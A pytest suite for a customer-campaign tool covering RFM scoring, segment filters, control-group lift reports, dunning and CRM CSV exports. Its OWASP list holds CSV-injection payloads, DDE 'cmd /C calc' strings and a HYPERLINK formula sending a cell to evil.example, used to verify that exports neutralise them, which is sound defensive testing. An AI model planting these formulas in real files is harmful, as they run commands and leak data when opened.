"""Segments (RFM and filters), campaigns with control groups and their report, exports, dunning."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from qbsync.cache.models import Realm
from qbsync.campaigns import campaign, dunning, exports, rfm, segments
from qbsync.clock import FixedClock
from qbsync.csvfile import neutralise
from qbsync.errors import InputError
from qbsync.rules.activity import CustomerActivity
from qbsync.rules.duplicates import DuplicateFindings
from tests.builder import CacheBuilder

AS_OF = date(2025, 6, 30)
CLOCK = FixedClock(datetime(2025, 6, 30, 12, tzinfo=UTC))

# OWASP "CSV Injection" payloads: each must come back as inert text.
OWASP = ["=1+2", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")", "@SUM(1+1)*cmd|' /C calc'!A0",
         "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
         "=1+2\";=1+2", "=1+2'\" ;,=1+2"]


def _act(cid: str, last: date | None, n: int, ltv: str) -> CustomerActivity:
    return CustomerActivity(cid, f"C{cid}", True, None, False, date(2020, 1, 1), None, None,
                            last_purchase=last, txn_count=n, lifetime_revenue=Decimal(ltv))


def test_rfm_quintiles_and_named_segments() -> None:
    acts = {str(i): _act(str(i), AS_OF - timedelta(days=10 * i), 10 - i // 2, str(1000 - 40 * i))
            for i in range(20)}
    acts["new"] = _act("new", AS_OF - timedelta(days=1), 1, "10")
    acts["never"] = _act("never", None, 0, "0")
    scores = rfm.score_all(acts, AS_OF)
    assert "never" not in scores
    assert scores["0"].segment == "Champions" and (scores["0"].r, scores["0"].fm) == (5, 5)
    assert scores["19"].segment == "Lost" and scores["19"].r == 1
    assert scores["new"].segment == "New"
    assert all(s.segment in rfm.SEGMENT_NAMES for s in scores.values())
    fixed = rfm.RfmConfig(recency_edges=(30, 90, 180, 365))
    assert rfm.score_all(acts, AS_OF, fixed)["19"].r == 2  # 190 days: in 181..365


def test_rfm_default_rules_cover_every_score_pair_once() -> None:
    for r in range(1, 6):
        for fm in range(1, 6):
            assert sum(rule.matches(r, fm) for rule in rfm.DEFAULT_RULES) == 1, (r, fm)


def _shop(c: CacheBuilder) -> None:
    c.department("10", "Downtown")
    c.item("i1", "Coffee beans")
    c.item("i2", "Grinder")
    people = [
        ("1", "Ann Able", "ann@example.com", None), ("2", "Bob Bell", "BOB@example.com", "+1 555 0100"),
        ("3", "Bob Bell Jr", "bob@example.com", None),  # same email as 2: one row
        ("4", "No Mail Co", None, "555-0199"), ("5", "Owes Money", "owes@example.com", None),
        ("6", "Blocked Person", "blocked@example.com", None), ("7", OWASP[1], "evil@example.com", OWASP[4]),
    ]
    for cid, name, email, phone in people:
        first, _, last = name.partition(" ")
        c.customer(cid, name, email=email, phone=phone, given=first, family=last, line1="1 Main St",
                   city="Springfield", region="IL", postal="62701", country="US")
    for cid, *_ in people:
        inv = c.invoice(cid, date(2024, 3, 1), "100.00", due=date(2024, 3, 31), dept="10",
                        items=(("i1", "60.00"), ("i2", "40.00")))
        if cid != "5":
            c.pay(cid, date(2024, 3, 20), (inv, "100.00"))


def test_segment_filters_and_command_line_definition(db_url: str) -> None:
    c = CacheBuilder(db_url)
    _shop(c)
    c.receipt("1", date(2025, 6, 1), "500.00")
    seg = segments.from_command_line("all", ["location=downtown", "ltv_min=150", "active=true"])
    got = [m.customer_id for m in segments.evaluate(c.engine, c.realm_id, seg, AS_OF)]
    assert got == ["1"]
    overdue = segments.make("late", "overdue", {"min_days": 30})
    assert [m.customer_id for m in segments.evaluate(c.engine, c.realm_id, overdue, AS_OF)] == ["5"]
    with pytest.raises(InputError, match="means nothing"):
        segments.make("x", "rfm", {"segments": "Lost", "colour": "red"})
    with pytest.raises(InputError, match="unknown: Sleepy"):
        segments.make("x", "rfm", {"segments": "Sleepy"})


def test_rule_kinds_choose_what_the_rules_find(db_url: str) -> None:
    c = CacheBuilder(db_url)
    _shop(c)
    c.receipt("1", date(2025, 6, 1), "500.00")  # Ann bought last month; everyone else last in March 2024
    inactive = segments.make("lapsed", "inactive", {"days": "365"})
    members = segments.evaluate(c.engine, c.realm_id, inactive, AS_OF)
    chosen = {m.customer_id: m.facts["action"] for m in members}
    assert chosen == {"2": "deactivate", "3": "deactivate", "4": "deactivate", "5": "collections",
                      "6": "deactivate", "7": "deactivate"}
    longer = segments.make("lapsed", "inactive", {"days": "1000"})
    assert segments.evaluate(c.engine, c.realm_id, longer, AS_OF) == []
    slipping = segments.make("slipping", "disappearing", {"min_score": "0"})
    scored = segments.evaluate(c.engine, c.realm_id, slipping, AS_OF)
    assert scored and all(0 <= m.facts["score"] <= 1 for m in scored)
    floor = sorted(m.facts["score"] for m in scored)[len(scored) // 2]
    above = segments.make("slipping", "disappearing", {"min_score": str(floor)})
    assert {m.customer_id for m in segments.evaluate(c.engine, c.realm_id, above, AS_OF)} == {
        m.customer_id for m in scored if m.facts["score"] >= floor}


def test_segments_from_the_example_file() -> None:
    path = Path(__file__).resolve().parents[2] / "config" / "segments.example.toml"
    loaded = segments.load_file(path)
    assert {"winback", "at-risk", "vip", "overdue-payers"} <= set(loaded.segments)
    assert loaded.segments["at-risk"].kind == "rfm"


def _campaign(c: CacheBuilder, name: str = "spring", **kw: object) -> campaign.Campaign:
    seg = segments.make("everyone", "all", {})
    return campaign.create(c.engine, c.realm_id, name, seg, AS_OF, CLOCK, seed=42, **kw)  # type: ignore[arg-type]


def test_exports_read_back_column_by_column(db_url: str, tmp_path: Path) -> None:
    c = CacheBuilder(db_url)
    _shop(c)
    _campaign(c, control_share=Decimal(0))
    dnc = exports.DoNotContact.parse(["# never email these", "Blocked@Example.com"])
    result = {}
    for fmt in exports.FORMATS:
        out = tmp_path / fmt
        out.mkdir()
        result[fmt] = exports.export(c.engine, c.realm_id, "spring", out, CLOCK, fmt=fmt, do_not_contact=dnc)

    mc = list(csv.DictReader(result["mailchimp"].files["marketing"].open(encoding="utf-8", newline="")))
    assert list(mc[0]) == ["Email Address", "First Name", "Last Name", "Address", "Phone Number", "Tags"]
    emails = [r["Email Address"].lower() for r in mc]
    assert len(emails) == len(set(emails)) == 3  # ann, bob (2 records merged), evil
    assert "blocked@example.com" not in emails
    bob = next(r for r in mc if r["Email Address"].lower() == "bob@example.com")
    # an importer keeps an apostrophe as part of the value: importer files carry none; a number that
    # is not a valid one of its country goes out as written
    assert (bob["First Name"], bob["Last Name"], bob["Phone Number"]) == ("Bob", "Bell", "+1 555 0100")
    assert bob["Address"] == "1 Main St  Springfield  IL  62701  US"
    segment, tier = bob["Tags"].split(",")
    assert segment == "everyone" and tier in ("gold", "silver", "bronze")
    evil = next(r for r in mc if r["Email Address"] == "evil@example.com")
    assert evil["First Name"] == OWASP[1].partition(" ")[0]
    assert evil["Phone Number"] == OWASP[4]

    hs = list(csv.DictReader(result["hubspot"].files["marketing"].open(encoding="utf-8", newline="")))
    assert list(hs[0]) == exports.HUBSPOT_COLUMNS
    ann = next(r for r in hs if r["Email"] == "ann@example.com")
    assert (ann["First name"], ann["Last name"], ann["Street address"], ann["City"], ann["State/Region"],
            ann["Postal code"], ann["Country/Region"]) == ("Ann", "Able", "1 Main St", "Springfield", "IL",
                                                           "62701", "US")

    gen = result["generic"]
    rows = list(csv.DictReader(gen.files["marketing"].open(encoding="utf-8", newline="")))
    assert list(rows[0]) == exports.GENERIC_COLUMNS
    ann_g = next(r for r in rows if r["Customer Id"] == "1")
    assert ann_g["Top Items"] == "Coffee beans; Grinder" and ann_g["Lifetime Value"] == "100.00"
    assert ann_g["Days Inactive"] == str((AS_OF - date(2024, 3, 1)).days)
    evil_g = next(r for r in rows if r["Email"] == "evil@example.com")
    assert (evil_g["Name"], evil_g["Phone"]) == ("'" + OWASP[1], "'" + OWASP[4])  # a person's spreadsheet
    bob_g = next(r for r in rows if r["Email"].lower() == "bob@example.com")
    assert bob_g["Merged Ids"] in ("2", "3") and bob_g["Lifetime Value"] == "200.00"
    call = list(csv.DictReader(gen.files["call"].open(encoding="utf-8", newline="")))
    assert [r["Customer Id"] for r in call] == ["4"]
    coll = list(csv.DictReader(gen.files["collections"].open(encoding="utf-8", newline="")))
    assert [(r["Customer Id"], r["Balance"]) for r in coll] == [("5", "100.00")]
    assert gen.excluded_do_not_contact == 1 and gen.merged_records == 1
    everything = "".join(p.read_text(encoding="utf-8") for r in result.values() for p in r.files.values())
    assert "blocked" not in everything.lower()


def test_exports_given_the_duplicates_once_write_the_same_files(db_url: str, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import qbsync.rules.duplicates

    c = CacheBuilder(db_url)
    _shop(c)
    # Bob again without an email: only the duplicates rule folds him into Bob's row.
    c.customer("8", "Bob Bell", given="Bob", family="Bell", phone="+1 555 0100", line1="1 Main St",
               city="Springfield", region="IL", postal="62701", country="US")
    _campaign(c, control_share=Decimal(0))
    detect = qbsync.rules.duplicates.detect_duplicates
    detections: list[int] = []

    def counted(*args: Any, **kw: Any) -> Any:
        detections.append(1)
        return detect(*args, **kw)

    monkeypatch.setattr(qbsync.rules.duplicates, "detect_duplicates", counted)
    alone = {}
    for fmt in exports.FORMATS:
        (tmp_path / "alone" / fmt).mkdir(parents=True)
        alone[fmt] = exports.export(c.engine, c.realm_id, "spring", tmp_path / "alone" / fmt, CLOCK, fmt=fmt)
    assert len(detections) == len(exports.FORMATS)
    detections.clear()
    shared = DuplicateFindings(c.engine)
    for fmt in exports.FORMATS:
        (tmp_path / "given" / fmt).mkdir(parents=True)
        given = exports.export(c.engine, c.realm_id, "spring", tmp_path / "given" / fmt, CLOCK, fmt=fmt,
                               duplicates=shared)
        assert given.rows == alone[fmt].rows and given.merged_records == alone[fmt].merged_records == 2
        assert given.rows["call"] == 1  # No Mail Co only
        for kind, path in alone[fmt].files.items():
            assert path.read_bytes() == given.files[kind].read_bytes(), (fmt, kind)
    assert len(detections) == 1


def test_open_balance_customers_join_the_marketing_list_when_asked(db_url: str, tmp_path: Path) -> None:
    c = CacheBuilder(db_url)
    _shop(c)
    _campaign(c, control_share=Decimal(0))
    res = exports.export(c.engine, c.realm_id, "spring", tmp_path, CLOCK, fmt="mailchimp",
                         include_balance=True, bom=True)
    assert res.files["collections"].read_bytes().startswith(b"\xef\xbb\xbf")  # for Excel; not the importer's
    assert "owes@example.com" in res.files["marketing"].read_text("utf-8") and res.rows["collections"] == 0


def test_owasp_payloads_are_neutralised() -> None:
    from qbsync.csvfile import csv_text

    text = csv_text(["v"], [[p] for p in OWASP])
    back = [r["v"] for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert back == ["'" + p for p in OWASP]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in back)
    assert neutralise("plain") == "plain" and neutralise("a=b") == "a=b"


def test_control_group_is_seeded_recorded_and_ten_percent(db_url: str) -> None:
    c = CacheBuilder(db_url)
    for i in range(40):
        c.customer(str(i), f"Customer {i}")
        c.invoice(str(i), date(2024, 1, 1), "10.00")
    camp = _campaign(c)
    mem = campaign.members(c.engine, camp.id)
    control = {m.customer_id for m in mem if m.control}
    assert len(control) == camp.controls == 4 and camp.seed == 42 and camp.control_share == "0.10"
    assert control == campaign.draw_control([m.customer_id for m in mem], Decimal("0.10"), 42)
    with pytest.raises(InputError, match="already exists"):
        _campaign(c)


def test_campaign_report_recovers_planted_return_shares(db_url: str) -> None:
    c = CacheBuilder(db_url)
    n = 200
    for i in range(n):
        c.customer(str(i), f"Customer {i}")
        c.invoice(str(i), date(2024, 1, 1), "10.00")
    camp = _campaign(c, control_share=Decimal("0.5"))
    mem = campaign.members(c.engine, camp.id)
    contacted = sorted(m.customer_id for m in mem if not m.control)
    control = sorted(m.customer_id for m in mem if m.control)
    for cid in contacted[:40]:  # 40 % of contacted come back
        c.receipt(cid, AS_OF + timedelta(days=10), "25.00")
    for cid in control[:10]:  # 10 % of control
        c.invoice(cid, AS_OF + timedelta(days=20), "30.00")
    c.receipt(contacted[-1], AS_OF, "99.00")  # on the campaign date itself: not a return
    rep = campaign.report(c.engine, c.realm_id, "spring", AS_OF + timedelta(days=60))
    assert (rep.contacted.members, rep.contacted.returned) == (100, 40)
    assert (rep.control.members, rep.control.returned) == (100, 10)
    assert rep.contacted.revenue == Decimal("1000.00") and rep.control.revenue == Decimal("300.00")
    assert rep.contacted.median_days_to_return == 10.0
    assert rep.lift == pytest.approx(0.30)
    low, high = rep.lift_interval
    assert 0.17 < low < 0.30 < high < 0.42
    assert rep.ratio == pytest.approx(4.0) and rep.ratio_interval is not None
    follow = campaign.followup(c.engine, c.realm_id, "spring", AS_OF + timedelta(days=60))
    assert len(follow) == 60 and not any(m.control for m in follow)
    early = campaign.report(c.engine, c.realm_id, "spring", AS_OF + timedelta(days=15))
    assert early.contacted.returned == 40 and early.control.returned == 0


def test_dunning_reminders_and_overdue_buckets(db_url: str) -> None:
    c = CacheBuilder(db_url)
    c.customer("1", "Acme", email="ap@acme.example")
    c.invoice("1", date(2025, 6, 1), "10.00", due=date(2025, 7, 5), doc="A-1")  # due in 5 days
    c.invoice("1", date(2025, 6, 1), "20.00", due=date(2025, 7, 20), doc="A-2")  # too far out
    c.invoice("1", date(2025, 4, 1), "30.00", due=date(2025, 5, 1), doc="A-3")  # 60 days
    paid = c.invoice("1", date(2025, 4, 1), "40.00", due=date(2025, 5, 1), doc="A-4")
    c.pay("1", date(2025, 5, 2), (paid, "40.00"))
    rows = dunning.dunning(c.engine, c.realm_id, AS_OF, within_days=7)
    assert [(r.doc_number, r.stage, r.days, r.balance) for r in rows] == [
        ("A-1", "reminder", -5, Decimal("10.00")), ("A-3", "31-60", 60, Decimal("30.00"))]
    assert rows[0].email == "ap@acme.example"


def test_dunning_rows_keep_each_customer_together(db_url: str) -> None:
    """A mail merge's rows go stage by stage and, within a stage, customer by customer, even for two
    customers whose names differ only in case (their invoices' due dates interleave)."""
    c = CacheBuilder(db_url)
    c.customer("1", "Acme", email="ap@acme.example")
    c.customer("2", "ACME", email="ap@acme2.example")
    for cid, day, doc in (("1", 1, "A-1"), ("2", 5, "B-1"), ("1", 10, "A-2"), ("2", 15, "B-2"),
                          ("1", 25, "A-3")):
        c.invoice(cid, date(2025, 4, 1), "10.00", due=date(2025, 5, day), doc=doc)
    c.invoice("2", date(2025, 6, 1), "10.00", due=date(2025, 7, 3), doc="B-3")  # a reminder
    rows = dunning.dunning(c.engine, c.realm_id, AS_OF, within_days=7)
    assert [(r.stage, r.customer_id, r.doc_number) for r in rows] == [
        ("reminder", "2", "B-3"), ("31-60", "1", "A-1"), ("31-60", "1", "A-2"), ("31-60", "1", "A-3"),
        ("31-60", "2", "B-1"), ("31-60", "2", "B-2")]


def test_importer_files_carry_phone_numbers_in_e164_without_apostrophes(db_url: str, tmp_path: Path) -> None:
    # Issue 10: 6-8 % of the demo's phone numbers reached Mailchimp and HubSpot as "'+61 2 8820 9162".
    c = CacheBuilder(db_url)
    c.customer("1", "Sydney Co", email="syd@example.com", phone="+61 2 8820 9162", country="Australia")
    c.customer("2", "Local Co", email="local@example.com", phone="(02) 8820 9163", country="AU")
    c.customer("3", "Nowhere Co", email="nowhere@example.com", phone="(415) 555-2671")  # company: US
    c.customer("4", "Typo Co", email="typo@example.com", phone="+61 2 88")
    with c.engine.begin() as conn:
        conn.execute(sa.update(Realm).values(country="US"))
    for cid in "1234":
        c.receipt(cid, date(2024, 3, 1), "10.00")
    _campaign(c, control_share=Decimal(0))
    phones = {}
    for fmt, email_col, phone_col in (("mailchimp", "Email Address", "Phone Number"),
                                      ("hubspot", "Email", "Phone number")):
        (tmp_path / fmt).mkdir()
        res = exports.export(c.engine, c.realm_id, "spring", tmp_path / fmt, CLOCK, fmt=fmt, bom=True)
        raw = res.files["marketing"].read_bytes()
        assert not raw.startswith(b"\xef\xbb\xbf")  # importers read plain UTF-8: --bom is for Excel files
        assert b"'" not in raw
        phones[fmt] = {r[email_col]: r[phone_col] for r in csv.DictReader(io.StringIO(raw.decode()))}
    assert phones["mailchimp"] == phones["hubspot"] == {
        "syd@example.com": "+61288209162", "local@example.com": "+61288209163",
        "nowhere@example.com": "+14155552671", "typo@example.com": "+61 2 88"}
    generic = exports.export(c.engine, c.realm_id, "spring", tmp_path / "generic", CLOCK, bom=True)
    raw = generic.files["marketing"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a person's spreadsheet: the BOM Excel needs
    rows = {r["Email"]: r["Phone"] for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert rows["syd@example.com"] == "'+61 2 8820 9162"  # formula-safe for a person, as written


def test_export_creates_its_directory(db_url: str, tmp_path: Path) -> None:
    c = CacheBuilder(db_url)
    _shop(c)
    _campaign(c, control_share=Decimal(0))
    res = exports.export(c.engine, c.realm_id, "spring", tmp_path / "new" / "dir", CLOCK)
    assert all(p.parent == tmp_path / "new" / "dir" and p.is_file() for p in res.files.values())
    (tmp_path / "file").write_text("")
    with pytest.raises(InputError, match="is a file"):
        exports.export(c.engine, c.realm_id, "spring", tmp_path / "file", CLOCK)


def test_value_at_risk_segment_targets_the_money_at_stake(db_url: str) -> None:
    """Regular buyers who stopped, some spending ten times more: the value-at-risk segment lists the
    big spenders who stopped first, and its floors narrow it."""
    c = CacheBuilder(db_url)
    for i in range(60):
        cid = str(100 + i)
        c.customer(cid, f"Regular {i}")
        stop = AS_OF - timedelta(days=5 + 9 * (i % 13))  # some buy until last week, some stopped months ago
        day = date(2023, 1, 2) + timedelta(days=i % 11)
        amount = "900.00" if i % 4 == 0 else "90.00"
        while day <= stop:
            c.invoice(cid, day, amount)
            day += timedelta(days=14 + i % 5)
    seg = segments.make("stake", "value_at_risk", {"top": "20"})
    members = segments.evaluate(c.engine, c.realm_id, seg, AS_OF)
    assert 0 < len(members) <= 20
    at_risk = {m.customer_id: Decimal(m.facts["value_at_risk"]) for m in members}
    assert all(v > 0 for v in at_risk.values()) and all(" a year at risk" in m.reason for m in members)
    top5 = sorted(at_risk, key=lambda k: -at_risk[k])[:5]
    assert sum((int(k) - 100) % 4 == 0 for k in top5) >= 4  # the big spenders
    floor = min(at_risk.values()) + (max(at_risk.values()) - min(at_risk.values())) / 2
    narrowed = segments.make("stake", "value_at_risk",
                             {"top": "20", "min_value": str(floor), "min_chance": "0.2"})
    kept = segments.evaluate(c.engine, c.realm_id, narrowed, AS_OF)
    assert kept and all(Decimal(m.facts["value_at_risk"]) >= floor and m.facts["chance_of_loss"] >= 0.2
                        for m in kept)
    assert len(kept) < len(members)
    with pytest.raises(InputError, match="means nothing"):
        segments.make("x", "value_at_risk", {"min_score": "0.5"})


def test_every_filter_narrows_as_its_name_says(db_url: str) -> None:
    c = CacheBuilder(db_url)
    c.department("10", "Downtown")
    c.qbo_class("7", "Retail")
    c.customer("1", "Big Buyer", type_id="3")
    c.invoice("1", date(2025, 6, 1), "900.00", due=date(2025, 7, 1), dept="10", cls="7")  # 900 open
    c.customer("2", "Small Paid")
    c.receipt("2", date(2024, 1, 10), "50.00")
    c.customer("3", "Gone Quiet", active=False)
    c.receipt("3", date(2022, 5, 1), "20.00")
    # filter -> (value, customers it keeps among 1, 2, 3)
    cases: dict[str, tuple[str, set[str]]] = {
        "location": ("downtown", {"1"}), "class": ("Retail", {"1"}), "customer_type": ("3", {"1"}),
        "ltv_min": ("100", {"1"}), "ltv_max": ("60", {"2", "3"}),
        "last_purchase_after": ("2024-01-01", {"1", "2"}), "last_purchase_before": ("2024-01-10", {"2", "3"}),
        "balance_min": ("1", {"1"}), "balance_max": ("0", {"2", "3"}),
        "days_inactive_min": ("365", {"2", "3"}), "days_inactive_max": ("30", {"1"}),
        "active": ("false", {"3"}),
    }
    assert set(cases) == set(segments.FILTER_KEYS)  # a new filter needs its case here
    for key, (value, kept) in cases.items():
        seg = segments.from_command_line("all", [f"{key}={value}"])
        assert {m.customer_id for m in segments.evaluate(c.engine, c.realm_id, seg, AS_OF)} == kept, key
    for bad in ("days_inactive_min=soon", "ltv_min=lots", "last_purchase_after=May", "active=maybe"):
        with pytest.raises(InputError, match="is not"):
            segments.from_command_line("all", [bad])


def test_the_kinds_listed_for_the_command_line_are_the_tables() -> None:
    assert tuple(segments._KINDS) == segments.KINDS


def test_every_kind_parameter_is_read_when_the_segment_is_defined() -> None:
    # A kind's parameters were passed on raw and read while the segment ran: `--kind best --where
    # top=abc` (or a TOML file saying so) ended in a ValueError traceback instead of one line.
    bad = {"days": "abc", "top": "abc", "min_score": "abc", "min_value": "x", "min_chance": "2",
           "share": "abc", "min_days": "-1", "min_amount": "abc", "segments": "Nobody"}
    for kind in segments.KINDS:
        for key in segments.PARAM_KEYS[kind]:
            if key in bad:
                with pytest.raises(InputError, match=key):
                    segments.from_command_line(kind, [f"{key}={bad[key]}"])
    typed = segments.from_command_line("best", ["top=5", "days=90"]).params
    assert typed == {"top": 5, "days": 90}
    assert segments.make("v", "value_at_risk", {"min_chance": 0.25, "min_value": "10"}).params == {
        "min_chance": 0.25, "min_value": Decimal("10")}
    assert set(bad) | {"policy"} == {k for keys in segments.PARAM_KEYS.values() for k in keys}


def test_rfm_quintile_is_the_share_strictly_worse_ties_sharing_a_score() -> None:
    # the definition, checked value by value on values with many ties: 1 + 5 x (how many customers
    # are strictly worse) // (how many there are), capped at 5; worse is lower for frequency and
    # revenue, higher for recency
    import random

    rng = random.Random(7)
    for n in (1, 2, 5, 37, 400):
        values = [Decimal(rng.randrange(12)) / 4 for _ in range(n)]
        up, down = rfm.quintiles(values), rfm.quintiles(values, higher_is_better=False)
        for k, v in enumerate(values):
            below = sum(1 for w in values if w < v)
            above = sum(1 for w in values if w > v)
            assert up[k] == min(5, 1 + 5 * below // n) and down[k] == min(5, 1 + 5 * above // n)
    assert rfm.quintiles([9, 8, 7, 6, 5, 4, 3, 2, 1, 0]) == [5, 5, 4, 4, 3, 3, 2, 2, 1, 1]


def test_rfm_scores_follow_the_definition_for_every_buyer() -> None:
    # R from days since the last purchase (fewer is better), F from purchases, M from revenue (equal
    # amounts written differently are one value), FM = (F + M) / 2 rounded half up, the segment the
    # first rule matching (R, FM); customers with no purchase by as_of are left out
    import random

    rng = random.Random(11)

    def score(values: list[Any], v: Any, higher_is_better: bool) -> int:
        worse = sum(1 for w in values if (w < v if higher_is_better else w > v))
        return min(5, 1 + 5 * worse // len(values))

    for n in (1, 3, 40, 250):
        acts = {}
        for i in range(n):
            last = AS_OF - timedelta(days=rng.randrange(400)) if rng.random() > 0.1 else None
            revenue = Decimal(rng.randrange(-3, 20)).scaleb(-rng.randrange(3)) * 100  # 1E+2, 100.0, ...
            acts[str(i)] = _act(str(i), last, rng.randrange(0, 9), str(revenue))
        acts["later"] = _act("later", AS_OF + timedelta(days=3), 4, "50")  # bought after as_of only
        scores = rfm.score_all(acts, AS_OF)
        buyers = [a for a in acts.values() if a.last_purchase is not None and a.last_purchase <= AS_OF]
        assert sorted(scores) == sorted(a.customer_id for a in buyers)
        days = [(AS_OF - a.last_purchase).days for a in buyers if a.last_purchase]
        counts = [max(1, a.txn_count) for a in buyers]
        revenue_ = [a.lifetime_revenue for a in buyers]
        for a, d, k, m in zip(buyers, days, counts, revenue_, strict=True):
            s = scores[a.customer_id]
            want = (score(days, d, False), score(counts, k, True), score(revenue_, m, True))
            assert (s.r, s.f, s.m) == want
            assert s.fm == int((Decimal(s.f + s.m) / 2).to_integral_value(rounding="ROUND_HALF_UP"))
            assert s.segment == next(r.name for r in rfm.DEFAULT_RULES if r.matches(s.r, s.fm))
    # scores outside 1-5 from edges built in code (not four of them) get no segment rather than failing
    five = rfm.RfmConfig(recency_edges=(1, 2, 3, 4, 5))
    odd = rfm.score_all({"1": _act("1", AS_OF - timedelta(days=10), 1, "10")}, AS_OF, five)
    assert odd["1"].r == 0 and odd["1"].segment is None
